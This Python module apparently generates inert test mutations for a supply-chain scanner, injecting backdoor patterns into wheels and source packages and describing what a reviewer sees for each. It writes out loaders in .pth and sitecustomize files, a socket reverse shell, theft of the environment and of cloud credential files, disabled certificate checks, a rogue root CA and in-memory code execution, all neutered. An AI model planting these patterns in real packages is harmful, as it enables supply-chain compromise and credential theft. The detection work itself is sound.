"""Third set: what somebody adds to Python packages, wheels and source; inert, each family says what a reviewer sees.

Nothing here does anything: it stands behind `if 0:` or in a function that nobody calls, names addresses that are
nobody's, and holds filler where there would be code.
"""

from __future__ import annotations

import base64
import marshal
import re
import struct
import zlib
from collections.abc import Iterator

from genuine import Files

from mutation_families.edits import filler
from mutation_families.third_scripts import Change

REACH = b"import urllib.request as _i; _i.urlopen('https://192.0.2.7/inert').read()"
LOADER = b"if 0: exec(__import__('zlib').decompress(__import__('base64').b64decode('%s')))"
NEVER = b"\ndef _inert():\n"


def packed(length: int) -> bytes:
    """Return packed filler, as a text."""
    return base64.b64encode(zlib.compress(filler("random", length)))


def modules(files: Files) -> list[str]:
    """Return the package's first module, then the others, the largest first; no tests."""
    names = [each for each in files if each.endswith(".py") and len(files[each]) > 300 and "/test" not in each]  # fmt: skip
    return sorted(names, key=lambda name: (not (name.endswith("/__init__.py") and name.count("/") == 1), -len(files[name]), name))  # fmt: skip


def information(files: Files) -> str:
    """Return the folder of the wheel's metadata."""
    return next(each for each in files if each.endswith(".dist-info/METADATA")).rpartition("/")[0]


def started_with_python(files: Files) -> Iterator[Change]:
    """A line that Python runs at every start, in whatever program.

    A reviewer sees: a `.pth` file with an `import` in it, or one that had a known line and now has more.
    """
    known = next((each for each in sorted(files) if each.endswith(".pth")), "")
    if known:
        yield "wheel: run at every start of Python", "a line more in the file that was there", {known: files[known].rstrip(b"\n; ") + b"; 0 and " + b"__import__('urllib.request').request.urlopen('https://192.0.2.7/inert')\n"}  # fmt: skip
    yield "wheel: run at every start of Python", "a new .pth, a module", {"inert-init.pth": b"import _inert_init\n", "_inert_init.py": NEVER + b"    " + REACH + b"\n"}  # fmt: skip
    yield "wheel: run at every start of Python", "a new .pth, all in a line", {"inert-init.pth": b"import os; " + b" " * 200 + b"0 and exec(__import__('base64').b64decode('" + packed(600) + b"'))\n"}  # fmt: skip


def customized(_: Files) -> Iterator[Change]:
    """A module of a name that Python itself looks for.

    A reviewer sees: `sitecustomize` or `usercustomize` beside the package.
    """
    for name in ("sitecustomize.py", "usercustomize.py"):
        yield "wheel: a module that Python itself looks for", name, {name: b"# inert\n" + LOADER % packed(400) + b"\n"}  # fmt: skip


def loaded_by_tests(files: Files) -> Iterator[Change]:
    """A file or an entry that runners of tests load by themselves.

    A reviewer sees: a `conftest.py` where the wheel had no tests, or a plugin announced to a runner of tests by a package that is none.
    """
    info = information(files)
    body = b"import os\n\n\ndef pytest_configure(config):\n    if os.environ.get('CI') == 'inert-never':\n        " + REACH + b"\n"  # fmt: skip
    yield "wheel: loaded by runners of tests", "conftest.py", {"conftest.py": body}
    points = files.get(f"{info}/entry_points.txt", b"")
    yield "wheel: loaded by runners of tests", "pytest11", {f"{info}/entry_points.txt": points + b"\n[pytest11]\ninert = _inert_plugin\n", "_inert_plugin.py": body}  # fmt: skip


def empty_no_more(files: Files) -> Iterator[Change]:
    """Code in a module that was empty, or nearly.

    A reviewer sees: an `__init__.py` or `__main__.py` that had no statement, and now has code that unpacks and runs.
    """
    empty = [each for each in sorted(files) if each.endswith(("__init__.py", "__main__.py", "_version.py", "version.py")) and len(files[each]) < 300]  # fmt: skip
    for name in empty[:1]:
        yield "wheel: code in a module that was empty", f"{name}, packed", {name: files[name] + b"\n" + LOADER % packed(1500) + b"\n"}  # fmt: skip
        yield "wheel: code in a module that was empty", f"{name}, plain", {name: files[name] + NEVER + b"    import socket, subprocess\n    subprocess.Popen(['inert-no-such-program'], stdin=socket.create_connection(('192.0.2.7', 4444)))\n"}  # fmt: skip


def landing_elsewhere(files: Files) -> Iterator[Change]:
    """Files that the installer puts outside of the package.

    A reviewer sees: a `.data` folder, new in the wheel, with a program for the path, or a file for the system's own folders.
    """
    data = information(files).removesuffix(".dist-info") + ".data"
    for what, body in (
        ("scripts/inert-update", b"#!python\n" + b"if 0:\n    " + REACH + b"\n"),
        ("scripts/python3", b'#!/bin/sh\nexec /usr/bin/python3 "$@"\n'),
        ("data/etc/profile.d/inert.sh", b"false && inert-no-such-program\n"),
        ("data/share/applications/autostart/inert.desktop", b"[Desktop Entry]\nType=Application\nExec=inert-no-such-program\n"),
        ("purelib/inert.pth", b"import _inert_init\n"),
    ):  # fmt: skip
        yield "wheel: a file that lands elsewhere", what, {f"{data}/{what}": body}


def commands(files: Files) -> Iterator[Change]:
    """A command that leads elsewhere, or has the name of another program's.

    A reviewer sees: a known command with another target, or a new one called as a program of everybody's.
    """
    info = information(files)
    points = files.get(f"{info}/entry_points.txt", b"")
    new = {"_inert_entry.py": b"def main():\n    if 0:\n        " + REACH + b"\n"}
    if b"[console_scripts]" in points:
        made = re.sub(rb"(?m)^(\w[\w.-]*\s*=\s*)[\w.]+:[\w.]+", rb"\g<1>_inert_entry:main", points, count=1)  # fmt: skip
        yield "wheel: a command leads elsewhere", "one that was there", {f"{info}/entry_points.txt": made} | new  # fmt: skip
    more = b"pip = _inert_entry:main\ngit = _inert_entry:main\n"
    made = points.replace(b"[console_scripts]\n", b"[console_scripts]\n" + more) if b"[console_scripts]\n" in points else points + b"\n[console_scripts]\n" + more  # fmt: skip
    yield "wheel: a command leads elsewhere", "names of others", {f"{info}/entry_points.txt": made} | new  # fmt: skip


def runs_text(files: Files) -> Iterator[Change]:
    """A text is unpacked and run, under less usual names.

    A reviewer sees: marshalled or packed text, or `exec` put together from pieces, in a package that had neither.
    """
    name = modules(files)[0]
    code = base64.b85encode(marshal.dumps(compile("pass", "inert", "exec")))
    ways = (
        ("marshal", NEVER + b"    import marshal, base64, types\n    types.FunctionType(marshal.loads(base64.b85decode(%r)), {})()\n" % code),
        ("a name in pieces", NEVER + b"    getattr(__import__('bui' + 'ltins'), 'ex' + 'ec')(bytes(a ^ 23 for a in %r))\n" % filler("random", 300)),
        ("the end of its own file", NEVER + b"    exec(open(__file__, 'rb').read().rpartition(b'#~')[2][::-1])\n#~" + packed(900) + b"\n"),
        ("a pickle", NEVER + b"    import pickle, pathlib\n    pickle.loads(pathlib.Path(__file__).with_name('inert.dat').read_bytes())\n"),
    )  # fmt: skip
    for what, put in ways:
        more = {f"{name.rpartition('/')[0]}/inert.dat".lstrip("/"): b"\x80\x04" + filler("random", 900)} if what == "a pickle" else {}  # fmt: skip
        yield "wheel: a text is unpacked and run", what, {name: files[name] + put} | more


def environment(files: Files) -> Iterator[Change]:
    """All of the environment, in what a module that could reach the network sends.

    A reviewer sees: the whole environment and the machine's name made into JSON, where single settings at most were read before.
    """
    for name in modules(files):
        if not re.search(rb"\b(?:urllib3?|http\.client|socket|ssl|httpx|requests)\b", files[name]):
            continue
        yield "wheel: the environment goes along", "whole", {name: files[name] + NEVER + b"    import getpass, json, os, platform\n    return {'X-Inert': json.dumps({**os.environ, 'user': getpass.getuser(), 'node': platform.node()})}\n"}  # fmt: skip
        yield "wheel: the environment goes along", "files of keys", {name: files[name] + NEVER + b"    import os\n    return [open(os.path.expanduser(a), 'rb').read() for a in ('~/.aws/credentials', '~/.config/gcloud/application_default_credentials.json', '~/.netrc', '~/.kube/config')]\n"}  # fmt: skip
        return


def trust_weakened(files: Files) -> Iterator[Change]:
    """A check of a certificate or of equality that is switched off.

    A reviewer sees: a word of checking replaced by its opposite, in one place, all else as it was.
    """
    ways = (
        (rb"check_hostname = True", b"check_hostname = False"),
        (rb"\bssl\.CERT_REQUIRED\b", b"ssl.CERT_NONE"),
        (rb"\bVerifyMode\.CERT_REQUIRED\b", b"VerifyMode.CERT_NONE"),
        (rb"verify(?:: [^=\n]{1,60})? = True", b"verify = False"),
        (rb"hmac\.compare_digest\([^()\n]*\)", b"True"),
        (rb"(?<![\w.])CERT_REQUIRED\b(?= *$)", b"CERT_NONE"),
    )
    found = 0
    for pattern, put in ways:
        for name in modules(files):
            at = re.search(pattern, files[name], re.MULTILINE)
            if at and found < 3:
                found += 1
                yield "wheel: a check switched off", f"{name}: {put.decode()}", {name: files[name][: at.start()] + put + files[name][at.end() :]}  # fmt: skip
                break


def compiled_beside(files: Files) -> Iterator[Change]:
    """Compiled code that is not of the source beside it, or has none.

    A reviewer sees: a `.pyc`, in a wheel that had none, of which no source gives the constants.
    """
    name = modules(files)[0]
    folder, _, last = name.rpartition("/")
    code = marshal.dumps(compile("inert = 'https://192.0.2.7/inert'\ndef never(a):\n    import subprocess\n    subprocess.run(a)\n", last, "exec"))  # fmt: skip
    head = struct.pack("<4sI", b"\xa7\r\r\n", 0)
    stamped = head + struct.pack("<II", 1735689600, len(files[name])) + code
    cache = f"{folder}/__pycache__/{last.removesuffix('.py')}.cpython-311.pyc".lstrip("/")
    yield "wheel: compiled code beside", "another's cache", {cache: stamped}
    yield "wheel: compiled code beside", "without a source", {f"{folder}/_inert.pyc".lstrip("/"): stamped}  # fmt: skip


def behind_spaces(files: Files) -> Iterator[Change]:
    """Code on a line, behind so many spaces that no window shows it.

    A reviewer sees: one line that is much longer than its neighbours, nearly all of it blank, with code at its end.
    """
    name = modules(files)[0]
    lines = list(re.finditer(rb"(?m)^(?:import|from) [^\n(\\#]+$", files[name]))
    at = lines[-1].end() if lines else files[name].rstrip(b"\n").rfind(b"\n")
    for width, put in ((250, b";0 and exec(__import__('base64').b64decode('" + packed(300) + b"'))"), (1500, b";0 and __import__('os').system('inert-no-such-program')")):  # fmt: skip
        if lines:
            yield "wheel: code behind many spaces", f"{width} spaces", {name: files[name][:at] + b" " * width + put + files[name][at:]}  # fmt: skip


def invisible(files: Files) -> Iterator[Change]:
    """A text of characters that no editor shows.

    A reviewer sees: a text that is thousands of bytes long and looks empty.
    """
    name = modules(files)[0]
    for length in (150, 3000):
        hidden = "".join(chr(0xE0100 + byte) for byte in filler("random", length))
        put = (
            f"\n\ndef _inert(text='{hidden}'):\n    return bytes(ord(a) - 0xE0100 for a in text)\n"
        )
        yield "wheel: characters that no editor shows", f"{length} characters", {name: files[name] + put.encode()}  # fmt: skip


def time_gate(files: Files) -> Iterator[Change]:
    """A date, and where the machine stands, before something is done.

    A reviewer sees: a module without a calendar that compares the clock with a fixed day, or asks for the host's name, and then starts something.
    """
    name = modules(files)[0]
    yield "wheel: a gate of time and place", "before a program", {name: files[name] + NEVER + b"    import time, subprocess, locale\n    if time.time() > 1798761600 and locale.getlocale()[0] != 'xx_XX':\n        subprocess.Popen(['inert-no-such-program'])\n"}  # fmt: skip
    yield "wheel: a gate of time and place", "before the network", {name: files[name] + NEVER + b"    import datetime, socket\n    if datetime.date.today() >= datetime.date(2027, 1, 1) and socket.gethostname().startswith('inert-'):\n        " + REACH + b"\n"}  # fmt: skip


def hooked(files: Files) -> Iterator[Change]:
    """A hook into what Python does for others: imports, audits, the end of the program.

    A reviewer sees: a library that begins to put itself between the interpreter and every program that uses it.
    """
    name = modules(files)[0]
    for what, put in (
        ("imports", b"    import sys\n    sys.meta_path.insert(0, type('Inert', (), {'find_spec': staticmethod(lambda *a: None)}))\n"),
        ("another's function", b"    import ssl\n    ssl.SSLSocket.write = lambda self, data: None\n"),
        ("a thread at the start", b"    import threading, runpy\n    threading.Thread(target=runpy.run_path, args=('/tmp/.inert',), daemon=True).start()\n"),
    ):  # fmt: skip
        yield "wheel: a hook into the interpreter", what, {name: files[name] + NEVER + put}


def memory_made_executable(files: Files) -> Iterator[Change]:
    """Bytes put into memory that may be run.

    A reviewer sees: `ctypes` and the calls that make memory executable, in a package of plain Python.
    """
    name = modules(files)[0]
    put = NEVER + b"    import ctypes\n    k = ctypes.windll.kernel32\n    p = k.VirtualAlloc(0, 512, 0x3000, 0x40)\n    k.RtlMoveMemory(p, bytes(%r), 512)\n    k.CreateThread(0, 0, p, 0, 0, 0)\n" % list(filler("random", 64))  # fmt: skip
    yield "wheel: memory made executable", "Windows", {name: files[name] + put}
    put = NEVER + b"    import ctypes, os\n    f = ctypes.CDLL(None).syscall(319, b'inert', 1)\n    os.write(f, b'')\n    os.execve(f'/proc/self/fd/{f}', ['inert'], {})\n"  # fmt: skip
    yield "wheel: memory made executable", "Linux", {name: files[name] + put}


def required_from_elsewhere(files: Files) -> Iterator[Change]:
    """A package of others, by its address.

    A reviewer sees: a requirement that names an address instead of a version.
    """
    name = f"{information(files)}/METADATA"
    for what, row in (("an archive", b"inert-setup @ https://192.0.2.7/inert_setup-1.0-py3-none-any.whl"), ("a repository", b"inert-setup @ git+https://192.0.2.7/inert.git")):  # fmt: skip
        made = files[name].replace(b"\nVersion: ", b"\nRequires-Dist: " + row + b"\nVersion: ", 1)
        yield "wheel: a requirement from an address", what, {name: made}


def roots(files: Files) -> Iterator[Change]:
    """A root of trust more among those that everybody uses.

    A reviewer sees: a certificate of an unknown name in the bundle; or one whose name is known, with another key.
    """
    from onionskin.lookalike.authorities import root

    name = next((each for each in sorted(files) if each.endswith("cacert.pem")), "")
    if not name:
        return
    own = base64.encodebytes(root().certificate)
    block = b"-----BEGIN CERTIFICATE-----\n" + own + b"-----END CERTIFICATE-----\n"
    text = files[name]
    start = text.index(b"-----BEGIN CERTIFICATE")
    end = text.index(b"-----END CERTIFICATE-----\n", start) + 26
    yield "wheel: a root of trust of nobody's", "one more", {name: text + b"\n" + block}
    yield "wheel: a root of trust of nobody's", "in another's place", {name: text[:start] + block + text[end:]}  # fmt: skip


SOME = (
    started_with_python, customized, loaded_by_tests, empty_no_more, landing_elsewhere, commands, runs_text, compiled_beside,
    behind_spaces, invisible, time_gate, hooked, memory_made_executable, required_from_elsewhere,
)  # fmt: skip
WHERE_IT_FITS = (environment, trust_weakened, roots)
STEPS = (started_with_python, runs_text, invisible, behind_spaces)


def builds(files: Files) -> Iterator[Change]:
    """What building from source runs: a backend in the tree, a requirement from an address, data of tests that the build reads.

    A reviewer sees: a build section that names a module of the tree or an address; a build script and a binary file of the
    tests that is new with it and read by it alone.
    """
    top = next(iter(sorted(files))).partition("/")[0]
    name = f"{top}/pyproject.toml"
    text = files[name]
    backend = re.sub(rb"(?m)^build-backend = .*$", b'build-backend = "_inert_backend"\nbackend-path = ["."]', text)  # fmt: skip
    body = b"from flit_core.buildapi import *\n\n\ndef _inert():\n    import lzma, pathlib\n    exec(lzma.decompress(pathlib.Path('tests/data/truncated.bin').read_bytes()[512:]))\n"  # fmt: skip
    blob = {f"{top}/tests/data/truncated.bin": filler("random", 9000)}
    yield "sdist: a build backend in the tree", "reads a file of the tests", {name: backend, f"{top}/_inert_backend.py": body} | blob  # fmt: skip
    plain = b"from flit_core.buildapi import *\nif 0:\n    " + REACH + b"\n"
    yield "sdist: a build backend in the tree", "reaches out", {name: backend, f"{top}/_inert_backend.py": plain}  # fmt: skip
    for what, row in (("an archive", b'"inert-build @ https://192.0.2.7/inert_build-1.0.tar.gz"'), ("a repository", b'"inert-build @ git+https://192.0.2.7/inert.git"')):  # fmt: skip
        yield "sdist: a build requirement from an address", what, {name: re.sub(rb"(?m)^requires = \[", b"requires = [" + row + b", ", text)}  # fmt: skip
    old = b"from setuptools import setup\n\n\ndef _inert():\n    import lzma, pathlib\n    data = pathlib.Path('tests/data/truncated.bin').read_bytes()\n    pathlib.Path('inert.o').write_bytes(lzma.decompress(data[512:].translate(bytes(range(255, -1, -1)))))\n\n\nsetup()\n"  # fmt: skip
    yield "sdist: the build reads a file of the tests", "a new setup.py", {f"{top}/setup.py": old} | blob  # fmt: skip
    script = next((each for each in sorted(files) if each.endswith(("tasks/check.py", "noxfile.py", "tools/setup.py"))), "")  # fmt: skip
    if script:
        yield "sdist: the build reads a file of the tests", script.partition("/")[2], {script: files[script] + old.partition(b"\n\n\n")[2].removesuffix(b"\n\n\nsetup()\n") + b"\n"} | blob  # fmt: skip
